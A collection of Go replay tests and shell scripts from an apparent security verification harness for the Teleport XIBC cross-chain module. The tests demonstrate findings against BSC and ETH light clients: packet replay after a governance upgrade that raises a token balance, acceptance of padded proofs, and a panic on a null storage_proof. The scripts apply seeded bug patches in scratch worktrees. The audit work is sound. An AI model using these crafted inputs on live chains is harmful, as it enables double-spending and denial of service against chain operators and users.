	// the connection to A is set up again (client and relayer by governance; the harness writes them directly)
	suite.chainB.SetPacketChainName()
	suite.Require().NoError(pathAToB.EndpointB.CreateClient())
	pathAToB.RegisterRelayers()
	suite.Require().NoError(pathAToB.EndpointB.UpdateClient())

	// the same packet (A, B, 1), still committed on A, is relayed again
	err = zzF1Recv(t, pathAToB.EndpointB, packet)
	second := suite.ERC20Balance(suite.chainB, chainBERC20, suite.chainB.SenderAddress)
	if err == nil && second.Int64() > first.Int64() {
		fmt.Printf("REPLAY-CONFIRMED: after the governance upgrade v0.2 (xibc.ResetStates) receipt stored=%v ack stored=%v for the accepted packet (%s,%s,1); the same packet was accepted a second time and the receiver's balance went from %s to %s\n",
			receiptAfter, ackAfter, packet.SrcChain, packet.DstChain, first, second)
		return
	}
	fmt.Printf("REPLAY-NOT-REPRODUCED: second receive of (%s,%s,1) after the upgrade: err=%v, balance %s -> %s, receipt stored=%v ack stored=%v\n",
		packet.SrcChain, packet.DstChain, err, first, second, receiptAfter, ackAfter)
}
