// package directory: x/xibc/clients/light-clients/bsc/types   (package types; also exercises the identical ETH code through an import)
package types

// Finding 2 (C08, clause "a truncated, padded or absent-key proof is rejected"): padded proofs are ACCEPTED by the
// BSC and the ETH client. Accepted paddings: (a) arbitrary extra nodes appended to account_proof / storage proof,
// (b) non-hex garbage appended to every hex string of the proof (common.FromHex silently keeps the bytes decoded
// before the first bad character), (c) key / storage_hash / code_hash / nonce / balance left-padded with arbitrary
// extra bytes (common.HexToHash crops from the left). The padded proofs still prove the same (contract, slot,
// value, root), so this is a leniency without a soundness consequence - but the clause as written is violated.

import (
	"encoding/json"
	"fmt"
	"math/big"
	"strings"
	"testing"

	"github.com/cosmos/cosmos-sdk/codec"
	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	"github.com/cosmos/cosmos-sdk/store/dbadapter"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/common/hexutil"
	"github.com/ethereum/go-ethereum/core/rawdb"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/ethereum/go-ethereum/light"
	"github.com/ethereum/go-ethereum/rlp"
	"github.com/ethereum/go-ethereum/trie"
	dbm "github.com/tendermint/tm-db"

	ethtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/eth/types"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	"github.com/teleport-network/teleport/x/xibc/core/host"
)

func zzf2Prove(tr *trie.Trie, key []byte) []string {
	nl := new(light.NodeList)
	if err := tr.Prove(key, 0, nl); err != nil {
		panic(err)
	}
	var out []string
	for _, n := range *nl {
		out = append(out, hexutil.Encode(n))
	}
	return out
}

func TestZZFinding2PaddedProofAccepted(t *testing.T) {
	reg := codectypes.NewInterfaceRegistry()
	clienttypes.RegisterInterfaces(reg)
	RegisterInterfaces(reg)
	ethtypes.RegisterInterfaces(reg)
	cdc := codec.NewProtoCodec(reg)

	src, dst, seq := "bsc", "teleport", uint64(7)
	contract := common.HexToAddress("0x6c2d2868487665C766740ec4cAD006110CfDCff8")
	commitment := crypto.Keccak256([]byte("packet"))
	slot := common.BytesToHash(NewProofKeyConstructor(src, dst, seq).GetPacketCommitmentProofKey())

	stTrie, _ := trie.New(common.Hash{}, trie.NewDatabase(rawdb.NewMemoryDatabase()))
	enc, _ := rlp.EncodeToBytes(common.TrimLeftZeroes(commitment))
	stTrie.Update(crypto.Keccak256(slot.Bytes()), enc)
	for i := 0; i < 40; i++ {
		k := crypto.Keccak256([]byte(fmt.Sprintf("filler-%d", i)))
		v, _ := rlp.EncodeToBytes(k)
		stTrie.Update(crypto.Keccak256(k), v)
	}
	stRoot := stTrie.Hash()
	codeHash := crypto.Keccak256Hash([]byte("code"))
	accTrie, _ := trie.New(common.Hash{}, trie.NewDatabase(rawdb.NewMemoryDatabase()))
	accRlp, _ := rlp.EncodeToBytes(&ProofAccount{Nonce: big.NewInt(1), Balance: big.NewInt(0), Storage: stRoot, Codehash: codeHash})
	accTrie.Update(crypto.Keccak256(contract.Bytes()), accRlp)
	for i := 0; i < 40; i++ {
		a := crypto.Keccak256([]byte(fmt.Sprintf("acct-%d", i)))
		v, _ := rlp.EncodeToBytes(&ProofAccount{Nonce: big.NewInt(int64(i)), Balance: big.NewInt(7), Storage: common.Hash{1}, Codehash: common.Hash{2}})
		accTrie.Update(a, v)
	}
	root := accTrie.Hash()

	mk := func() Proof {
		return Proof{
			Address:      contract.Hex(),
			Balance:      "0x0",
			CodeHash:     codeHash.Hex(),
			Nonce:        "0x1",
			StorageHash:  stRoot.Hex(),
			AccountProof: zzf2Prove(accTrie, crypto.Keccak256(contract.Bytes())),
			StorageProof: []*StorageResult{{Key: slot.Hex(), Proof: zzf2Prove(stTrie, crypto.Keccak256(slot.Bytes()))}},
		}
	}

	head, proofHeight := clienttypes.NewHeight(0, 100), clienttypes.NewHeight(0, 90)
	bscStore := dbadapter.Store{DB: dbm.NewMemDB()}
	bscCS := ClientState{Header: Header{Height: head}, ChainId: 56, Epoch: 200, ContractAddress: contract.Bytes(), TrustingPeriod: 1000}
	bz, err := clienttypes.MarshalConsensusState(cdc, &ConsensusState{Timestamp: 1, Height: proofHeight, Root: root.Bytes()})
	if err != nil {
		t.Fatal(err)
	}
	bscStore.Set(host.ConsensusStateKey(proofHeight), bz)

	ethStore := dbadapter.Store{DB: dbm.NewMemDB()}
	ethCS := ethtypes.ClientState{Header: ethtypes.Header{Height: head}, ChainId: 1, ContractAddress: contract.Bytes(), TrustingPeriod: 1000, BlockDelay: 10}
	bz, err = clienttypes.MarshalConsensusState(cdc, &ethtypes.ConsensusState{Timestamp: 1, Height: proofHeight, Root: root.Bytes()})
	if err != nil {
		t.Fatal(err)
	}
	ethStore.Set(host.ConsensusStateKey(proofHeight), bz)

	verify := func(p Proof) (res string) {
		defer func() {
			if r := recover(); r != nil {
				res = fmt.Sprintf("PANIC(%v)", r)
			}
		}()
		pbz, _ := json.Marshal(p)
		b := bscCS.VerifyPacketCommitment(sdk.Context{}, bscStore, cdc, proofHeight, pbz, src, dst, seq, commitment)
		e := ethCS.VerifyPacketCommitment(sdk.Context{}, ethStore, cdc, proofHeight, pbz, src, dst, seq, commitment)
		switch {
		case b == nil && e == nil:
			return "accepted(bsc,eth)"
		case b == nil:
			return "accepted(bsc)"
		case e == nil:
			return "accepted(eth)"
		}
		return "rejected"
	}

	if r := verify(mk()); r != "accepted(bsc,eth)" {
		t.Fatalf("baseline proof: %s", r)
	}
	// control: a truncated proof (last storage node dropped) is rejected
	trunc := mk()
	trunc.StorageProof[0].Proof = trunc.StorageProof[0].Proof[:len(trunc.StorageProof[0].Proof)-1]
	if r := verify(trunc); r != "rejected" {
		t.Fatalf("truncated proof: %s", r)
	}

	// (a) junk nodes appended to both node lists
	a := mk()
	a.AccountProof = append(a.AccountProof, "0xc0", "0xdeadbeef", a.AccountProof[0])
	a.StorageProof[0].Proof = append(a.StorageProof[0].Proof, "0xf8518080808080a0f19f10eaadef5a7f05f514a765a478938f1bd061f7067f75fb62c2a8632058b0a045e3c73c357a2c8bcf0f10cdcc02bcc477aba31d749770c22c3714c0dbf0d36980808080808080808080")
	// (b) non-hex garbage appended to every hex string
	b := mk()
	b.Address += "!!"
	for i := range b.AccountProof {
		b.AccountProof[i] += "zzzz-padding"
	}
	for i := range b.StorageProof[0].Proof {
		b.StorageProof[0].Proof[i] += "zz"
	}
	// (c) left-padded fixed-size fields
	c := mk()
	c.StorageProof[0].Key = "0xdeadbeef" + slot.Hex()[2:]
	c.StorageHash = "0xffff" + c.StorageHash[2:]
	c.CodeHash = "0xabcd" + c.CodeHash[2:]
	c.Nonce = "0x" + strings.Repeat("ee", 4) + strings.Repeat("00", 31) + "01"
	c.Balance = "0x" + strings.Repeat("77", 8) + strings.Repeat("00", 32)

	ra, rb, rc := verify(a), verify(b), verify(c)
	line := fmt.Sprintf("extra junk nodes: %s; garbage appended to hex strings: %s; left-padded key/storage_hash/code_hash/nonce/balance: %s", ra, rb, rc)
	if strings.Contains(line, "accepted") {
		fmt.Println("REPLAY-CONFIRMED: padded proofs are accepted - " + line)
	} else {
		fmt.Println("REPLAY-NOT-REPRODUCED: padded proofs are rejected - " + line)
	}
}
