// package directory: x/xibc/clients/light-clients/eth/types   (package types; also exercises the identical BSC code through an import)
package types

// Finding 1 (C08): a proof whose "storage_proof" array holds the single element null makes
// VerifyPacketCommitment / VerifyPacketAcknowledgement of the ETH and of the BSC client PANIC
// (nil pointer dereference at `sp.Key`) instead of rejecting the proof with an error.
// The account part of the proof is a perfectly valid (and public) account proof, so every relayer can build it.

import (
	"encoding/json"
	"fmt"
	"math/big"
	"strings"
	"testing"

	"github.com/cosmos/cosmos-sdk/codec"
	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	"github.com/cosmos/cosmos-sdk/store/dbadapter"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/common/hexutil"
	"github.com/ethereum/go-ethereum/core/rawdb"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/ethereum/go-ethereum/light"
	"github.com/ethereum/go-ethereum/rlp"
	"github.com/ethereum/go-ethereum/trie"
	dbm "github.com/tendermint/tm-db"

	bsctypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/bsc/types"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	"github.com/teleport-network/teleport/x/xibc/core/host"
)

func zzf1Prove(tr *trie.Trie, key []byte) []string {
	nl := new(light.NodeList)
	if err := tr.Prove(key, 0, nl); err != nil {
		panic(err)
	}
	var out []string
	for _, n := range *nl {
		out = append(out, hexutil.Encode(n))
	}
	return out
}

func TestZZFinding1NullStorageProofPanics(t *testing.T) {
	reg := codectypes.NewInterfaceRegistry()
	clienttypes.RegisterInterfaces(reg)
	RegisterInterfaces(reg)
	bsctypes.RegisterInterfaces(reg)
	cdc := codec.NewProtoCodec(reg)

	src, dst, seq := "eth", "teleport", uint64(7)
	contract := common.HexToAddress("0x6c2d2868487665C766740ec4cAD006110CfDCff8")
	commitment := crypto.Keccak256([]byte("packet"))
	slot := common.BytesToHash(NewProofKeyConstructor(src, dst, seq).GetPacketCommitmentProofKey())

	// counterparty state: storage trie of the XIBC contract (slot -> commitment) and the account trie
	stTrie, _ := trie.New(common.Hash{}, trie.NewDatabase(rawdb.NewMemoryDatabase()))
	enc, _ := rlp.EncodeToBytes(common.TrimLeftZeroes(commitment))
	stTrie.Update(crypto.Keccak256(slot.Bytes()), enc)
	for i := 0; i < 40; i++ {
		k := crypto.Keccak256([]byte(fmt.Sprintf("filler-%d", i)))
		v, _ := rlp.EncodeToBytes(k)
		stTrie.Update(crypto.Keccak256(k), v)
	}
	stRoot := stTrie.Hash()
	codeHash := crypto.Keccak256Hash([]byte("code"))
	accTrie, _ := trie.New(common.Hash{}, trie.NewDatabase(rawdb.NewMemoryDatabase()))
	accRlp, _ := rlp.EncodeToBytes(&ProofAccount{Nonce: big.NewInt(1), Balance: big.NewInt(0), Storage: stRoot, Codehash: codeHash})
	accTrie.Update(crypto.Keccak256(contract.Bytes()), accRlp)
	for i := 0; i < 40; i++ {
		a := crypto.Keccak256([]byte(fmt.Sprintf("acct-%d", i)))
		v, _ := rlp.EncodeToBytes(&ProofAccount{Nonce: big.NewInt(int64(i)), Balance: big.NewInt(7), Storage: common.Hash{1}, Codehash: common.Hash{2}})
		accTrie.Update(a, v)
	}
	root := accTrie.Hash()

	good := Proof{
		Address:      contract.Hex(),
		Balance:      "0x0",
		CodeHash:     codeHash.Hex(),
		Nonce:        "0x1",
		StorageHash:  stRoot.Hex(),
		AccountProof: zzf1Prove(accTrie, crypto.Keccak256(contract.Bytes())),
		StorageProof: []*StorageResult{{Key: slot.Hex(), Proof: zzf1Prove(stTrie, crypto.Keccak256(slot.Bytes()))}},
	}
	goodBz, _ := json.Marshal(good)
	bad := good
	bad.StorageProof = []*StorageResult{nil} // marshals to "storage_proof":[null]
	badBz, _ := json.Marshal(bad)
	if !strings.Contains(string(badBz), `"storage_proof":[null]`) {
		t.Fatalf("unexpected encoding %s", badBz)
	}

	head, proofHeight := clienttypes.NewHeight(0, 100), clienttypes.NewHeight(0, 90)

	// ETH client
	ethStore := dbadapter.Store{DB: dbm.NewMemDB()}
	ethCS := ClientState{Header: Header{Height: head}, ChainId: 1, ContractAddress: contract.Bytes(), TrustingPeriod: 1000, BlockDelay: 10}
	bz, err := clienttypes.MarshalConsensusState(cdc, &ConsensusState{Timestamp: 1, Height: proofHeight, Root: root.Bytes()})
	if err != nil {
		t.Fatal(err)
	}
	ethStore.Set(host.ConsensusStateKey(proofHeight), bz)

	// BSC client
	bscStore := dbadapter.Store{DB: dbm.NewMemDB()}
	bscCS := bsctypes.ClientState{Header: bsctypes.Header{Height: head}, ChainId: 56, Epoch: 200, ContractAddress: contract.Bytes(), TrustingPeriod: 1000}
	bz, err = clienttypes.MarshalConsensusState(cdc, &bsctypes.ConsensusState{Timestamp: 1, Height: proofHeight, Root: root.Bytes()})
	if err != nil {
		t.Fatal(err)
	}
	bscStore.Set(host.ConsensusStateKey(proofHeight), bz)

	call := func(f func() error) (res string) {
		defer func() {
			if r := recover(); r != nil {
				res = fmt.Sprintf("PANIC(%v)", r)
			}
		}()
		if err := f(); err != nil {
			return "error"
		}
		return "accepted"
	}

	// sanity: the untouched proof is accepted by both clients
	okEth := call(func() error {
		return ethCS.VerifyPacketCommitment(sdk.Context{}, ethStore, cdc, proofHeight, goodBz, src, dst, seq, commitment)
	})
	okBsc := call(func() error {
		return bscCS.VerifyPacketCommitment(sdk.Context{}, bscStore, cdc, proofHeight, goodBz, src, dst, seq, commitment)
	})
	if okEth != "accepted" || okBsc != "accepted" {
		t.Fatalf("baseline proof not accepted: eth=%s bsc=%s", okEth, okBsc)
	}

	results := []string{
		"eth.VerifyPacketCommitment=" + call(func() error {
			return ethCS.VerifyPacketCommitment(sdk.Context{}, ethStore, cdc, proofHeight, badBz, src, dst, seq, commitment)
		}),
		"eth.VerifyPacketAcknowledgement=" + call(func() error {
			return ethCS.VerifyPacketAcknowledgement(sdk.Context{}, ethStore, cdc, proofHeight, badBz, src, dst, seq, commitment)
		}),
		"bsc.VerifyPacketCommitment=" + call(func() error {
			return bscCS.VerifyPacketCommitment(sdk.Context{}, bscStore, cdc, proofHeight, badBz, src, dst, seq, commitment)
		}),
		"bsc.VerifyPacketAcknowledgement=" + call(func() error {
			return bscCS.VerifyPacketAcknowledgement(sdk.Context{}, bscStore, cdc, proofHeight, badBz, src, dst, seq, commitment)
		}),
	}
	line := strings.Join(results, "; ")
	if strings.Contains(line, "PANIC") || strings.Contains(line, "accepted") {
		fmt.Println("REPLAY-CONFIRMED: proof with \"storage_proof\":[null] (valid account proof) is not rejected with an error: " + line)
	} else {
		fmt.Println("REPLAY-NOT-REPRODUCED: proof with \"storage_proof\":[null] is rejected with an error: " + line)
	}
}
