#!/usr/bin/env python3
"""prints the package directory of a seeded change's demonstration test (from its meta.json)"""
import json, re, sys

m = json.load(open(sys.argv[1]))["demo_package"]
p = re.split(r"[ (]", m)[0]
if not (p.startswith("x/") or p.startswith("app") or p.startswith("adapter")):
    # shorthand used in some metas: "bsc/types", "eth/types", "tendermint/types"
    p = "x/xibc/clients/light-clients/" + p
print(p)
