#!/bin/sh
# Offline build of the verifier (govc) from the sources in /verif; warms the Go build cache for /repo.
set -e
cd "$(dirname "$0")"
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local CGO_ENABLED=1
mkdir -p bin
go build -o bin/govc ./cmd/govc
# warm export data of the teleport packages (with the contract files' build tag)
(cd /repo && go build -tags verif ./x/... ./adapter/... ./ibc/... ./syscontracts/... ./app/... >/dev/null 2>&1 || true)
echo "setup ok"
