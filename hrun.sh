#!/bin/sh
# hrun.sh <test file under /verif/replay> <pkg dir rel to /repo> <run regexp>: run a replay test on /repo's working tree
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
ov=$(mktemp /root/scratch/ovXXXX.json)
echo "{\"Replace\": {\"/repo/$2/zz_verif_replay_test.go\": \"/verif/replay/$1\"}}" > $ov
cd /repo && go test -overlay $ov -vet=off -count=1 -timeout 300s -run "$3" -v ./$2 2>&1 | grep -E "REPLAY|^ok|^FAIL|panic:|cannot|undefined" | cut -c1-400
rm -f $ov
