#!/bin/sh
# seeddemos.sh: re-confirm every kept seeded change on the current /repo HEAD in a scratch worktree:
# patch applies, build ok, the package's tests (with the demo added) FAIL with the change and PASS without it.
# Does not touch /repo's working tree. Output: one line per seed.
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
wt=/tmp/seeddemos-wt
git -C /repo worktree remove --force $wt 2>/dev/null
git -C /repo worktree add -q --detach $wt HEAD || exit 2
cd $wt
for d in /verif/seeded/C*; do
  id=$(basename $d)
  pkg=$(python3 /verif/seeddemo_pkg.py $d/meta.json)
  if [ ! -d "$pkg" ]; then echo "$id NO-PKG $pkg"; continue; fi
  run='.'
  case $pkg in *eth/types*) run='Seed|ZZ|Demo';; esac
  git apply $d/patch.diff 2>/dev/null || { echo "$id APPLY-FAIL"; git checkout -q -- .; continue; }
  cp $d/zz_seed_demo_test.go $pkg/
  go build ./... 2>/dev/null || echo "$id BUILD-FAIL"
  with=$(go test -vet=off -count=1 -run "$run" ./$pkg 2>&1 | tail -1 | cut -c1-12)
  git apply -R $d/patch.diff
  without=$(go test -vet=off -count=1 -run "$run" ./$pkg 2>&1 | tail -1 | cut -c1-12)
  rm -f $pkg/zz_seed_demo_test.go; git checkout -q -- .
  echo "$id with=[$with] without=[$without]"
done
cd /; git -C /repo worktree remove --force $wt
