#!/bin/sh
# seedcheck.sh <seed-id> <seed-dir> <demo-pkg-dir> <demo-run-regexp> "<existing test pkgs>" "<props to run>"
# 1. confirms the seeded change in a scratch worktree (build, existing tests, demo fails with / passes without)
# 2. runs the listed checks against /repo with the change applied, then undoes it
set -u
if [ -n "$(git -C /repo status --porcelain)" ]; then echo "refusing: /repo has uncommitted changes"; exit 2; fi
id=$1; sd=$2; pkg=$3; run=$4; tests=$5; props=$6
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
wt=/tmp/confirm-$id
git -C /repo worktree add -q --detach $wt HEAD || exit 2
cd $wt
echo "== apply"; git apply $sd/patch.diff && echo applied
echo "== build"; go build ./... && echo build-ok
echo "== existing tests (with change)"; go test -vet=off -count=1 $tests 2>&1 | grep -v "no test files" | grep -v "^ok" | head -20; echo "(only non-ok lines shown)"
cp $sd/zz_seed_demo_test.go $pkg/
echo "== demo with change (expect FAIL)"; go test -vet=off -count=1 -run "$run" ./$pkg 2>&1 | tail -4
git apply -R $sd/patch.diff
echo "== demo without change (expect ok)"; go test -vet=off -count=1 -run "$run" ./$pkg 2>&1 | tail -3
cd /; git -C /repo worktree remove --force $wt
echo "== checks against the change"
git -C /repo apply $sd/patch.diff
for p in $props; do (cd /verif && ./check $p 2>&1 | grep -E "VIOLATION|UNDECIDED|quick:" | cut -c1-260 | head -6); done
git -C /repo checkout -- . 
git -C /repo status --short | head -3
