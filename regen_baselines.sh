#!/bin/sh
# Regenerates baseline/Cxx.obligations for every claimed property (run only on a tree where all checks pass).
cd "$(dirname "$0")"
for p in $(python3 -c "import json;print(' '.join(c['property_id'] for c in json.load(open('MANIFEST.json'))['checks']))"); do
  VERIF_WRITE_BASELINE=1 ./check $p | tail -1
done
