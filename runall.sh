#!/bin/sh
# Runs every claimed check (quick) and prints its exit status; exit 1 if any is non-zero.
cd "$(dirname "$0")"
ids=$(python3 -c "import json;print(' '.join(c['property_id'] for c in json.load(open('MANIFEST.json'))['checks']))")
rc=0
for p in $ids; do
  out=$(./check $p ${1:-quick} 2>&1); st=$?
  echo "$p exit=$st $(echo "$out" | tail -1)"
  if [ $st -ne 0 ]; then echo "$out" | grep -E "VIOLATION|UNDECIDED" | cut -c1-300 | head -5; rc=1; fi
done
exit $rc
